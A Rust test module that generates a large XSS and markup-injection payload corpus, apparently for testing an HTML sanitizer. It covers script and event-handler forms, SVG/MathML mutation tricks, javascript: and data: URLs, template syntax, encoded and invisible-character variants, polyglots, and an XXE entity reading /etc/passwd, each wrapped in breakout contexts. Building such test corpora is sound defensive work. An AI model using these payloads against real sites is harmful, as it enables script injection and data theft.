//! Texts that run a script or fetch something if they are taken for markup.

/// The placeholder for a payload's script.
const RUN: &str = "{run}";
/// The placeholder for an address that no one may visit.
const FAR: &str = "{far}";

/// Markup that would do something.
const FORMS: &[&str] = &[
    // Scripts.
    "<script>{run}</script>",
    "<ScRiPt type=module>{run}</sCrIpT >",
    "<script src={far}/s.js></script>",
    "<script\n>{run}</script\t>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<script>/*<!--<script>*/{run}//--></script>",
    "<<script>{run}//<</script>",
    // Event handlers.
    "<img src=x onerror={run}>",
    "<img/src=x/onerror={run}>",
    "<IMG SRC='{far}/i.png' onLoad='{run}'>",
    "<img src=page://localhost/1/1/100 onload={run}>",
    "<img srcset='{far}/a 1x' onerror={run}>",
    "<image href={far}/i.svg onerror={run}>",
    "<body onload={run} background={far}/b>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}><option>",
    "<details open ontoggle={run}>",
    "<marquee onstart={run}>",
    "<video src={far}/v onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<video poster={far}/p><source onerror={run}></video>",
    "<x contenteditable onfocus={run} tabindex=1 autofocus>",
    "<dialog open oncancel={run} onpointerenter={run}>",
    "<p onanimationstart={run} style=animation:x>",
    // SVG and MathML.
    "<svg onload={run}>",
    "<svg/onload={run}//",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><a><set attributeName=href to=javascript:{run} /></a>",
    "<svg><a xlink:href=\"javascript:{run}\"><text y=20>press</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc=\"<script>parent.{run}</script>\"></iframe>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload={run}>#x\">",
    "<svg><image href={far}/i.png /><style>*{fill:url({far}/f)}</style></svg>",
    "<math href=\"javascript:{run}\">press</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:{run}>press</maction></math>",
    // Markup that changes its meaning when it is parsed again.
    "<math><mtext><table><mglyph><style><img src=x onerror={run}></style></mglyph></table>",
    "<noscript><p title=\"</noscript><img src=x onerror={run}>\">",
    "<xmp><p title=\"</xmp><svg/onload={run}>\">",
    "<template><p title=\"</template><svg/onload={run}>\"></template>",
    "<listing>&lt;img src=x onerror={run}&gt;</listing>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    "<select><template><img src=x onerror={run}></template></select>",
    "<textarea><svg/onload={run}></textarea>",
    "<plaintext><svg/onload={run}>",
    // Frames and embedded content.
    "<iframe src=\"javascript:{run}\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;parent.{run}&lt;/script&gt;\">",
    "<frameset onload={run}><frame src={far}>",
    "<object data={far}/o.swf onerror={run}></object>",
    "<object data=\"data:text/html,<script>{run}</script>\">",
    "<embed src=\"javascript:{run}\">",
    "<applet code={far}/a.class archive={far}/a.jar>",
    // Elements that change the page itself.
    "<base href={far}/>",
    "<meta http-equiv=refresh content=\"0;url={far}/\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:{run}\">",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\"><script>{run}</script>",
    "<link rel=stylesheet href={far}/l.css onload={run}>",
    "<link rel=preload as=script href={far}/p.js>",
    // Styles.
    "<style>@import url({far}/i.css);</style>",
    "<style>*{background:url(\"{far}/b.png\")}</style>",
    "<style>@font-face{font-family:x;src:url({far}/f.woff)}*{font-family:x}</style>",
    "<p style=\"background:url({far}/p.png);behavior:url({far}/h)\">press",
    "<p style=\"width:expression({run});-moz-binding:url({far}/x)\">press",
    // Elements to press.
    "<a href=\"javascript:{run}\" autofocus onfocus={run}>press</a>",
    "<a href=\"java&#x09;script:{run}\">press</a>",
    "<area href=javascript:{run} shape=default>",
    "<form action=javascript:{run}><input type=submit value=press></form>",
    "<button formaction=\"javascript:{run}\">press</button>",
    "<isindex action=javascript:{run} type=image src={far}/i>",
    // Syntax of other languages.
    "${{run}}",
    "{{constructor.constructor('{run}')()}}",
    "<%= {run} %>",
    "#{{run}}",
    "[press](javascript:{run})",
    "![x]({far}/m.png)",
    "<javascript:{run}>",
    "[a]: javascript:{run} \"a\"\n[a]",
    "javascript:{run}//",
    "data:text/html,<script>{run}</script>",
    "<?xml-stylesheet href=\"javascript:{run}\"?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
    "<![CDATA[<script>{run}</script>]]>",
    "<!--><script>{run}</script>-->",
    "<!--[if IE]><script>{run}</script><![endif]-->",
    // Text that is not markup, and must not become markup.
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;img src=x onerror={run}&#62;",
    "&amp;lt;svg onload={run}&amp;gt;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "\\x3cimg src=x onerror={run}\\x3e",
    "%3Cscript%3E{run}%3C/script%3E",
    "＜script＞{run}＜/script＞",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    // Invisible characters.
    "<scr\u{0}ipt>{run}</scr\u{0}ipt>",
    "<img src=x o\u{0}nerror={run}>",
    "<\u{feff}script>{run}</script>",
    "<svg\u{c}onload={run}>",
    "<svg\u{b}onload={run}>",
    "<img src=x\u{a0}onerror={run}>",
    "<s\u{200b}cript>{run}</s\u{200b}cript>",
    "\u{202e}>tpircs/<{run}>tpircs<\u{202c}",
    "\u{2066}<svg onload={run}>\u{2069}",
    "\u{1b}]8;;{far}\u{7}press\u{1b}]8;;\u{7}",
    // Several at once.
    "*/</title></style></textarea></xmp>--></script><svg/onload={run}>'\"`",
    "'-{run}-'\"-{run}-\"`${{run}}`//</script><img src=x onerror={run}>",
];

/// Contexts in which a payload may appear, and how it breaks out of them.
const CONTEXTS: &[(&str, &str)] = &[
    // As text.
    ("", ""),
    // In the value of an attribute.
    ("x\" autofocus>", "<p x=\""),
    // In an element that cannot contain others.
    ("</p></span></button></title></textarea>", ""),
    // In a comment, or in a CDATA section.
    ("--> ]]> ", " <![CDATA[ <!--"),
];

/// Every form in every context. The scripts leave a mark, `window.__ran`.
pub fn all(far: &str) -> Vec<String> {
    let numbers = (1..).map(|number| format!("self.__ran={number}"));
    let pairs = FORMS.iter().flat_map(|form| CONTEXTS.iter().map(move |around| (form, around)));
    let made = pairs.zip(numbers).map(|((form, (before, after)), run)| {
        format!("{before}{form}{after}").replace(RUN, &run).replace(FAR, far)
    });
    made.collect()
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    #[test]
    fn payloads_are_many_and_each_is_another() {
        let payloads = all("http://127.0.0.1:9");
        assert!(payloads.len() >= 200, "{}", payloads.len());
        assert_eq!(payloads.iter().collect::<BTreeSet<_>>().len(), payloads.len());
        let spent = |payload: &String| !payload.contains(RUN) && !payload.contains(FAR);
        assert!(payloads.iter().all(spent));
        assert_eq!(FORMS.iter().collect::<BTreeSet<_>>().len(), FORMS.len());
    }
}
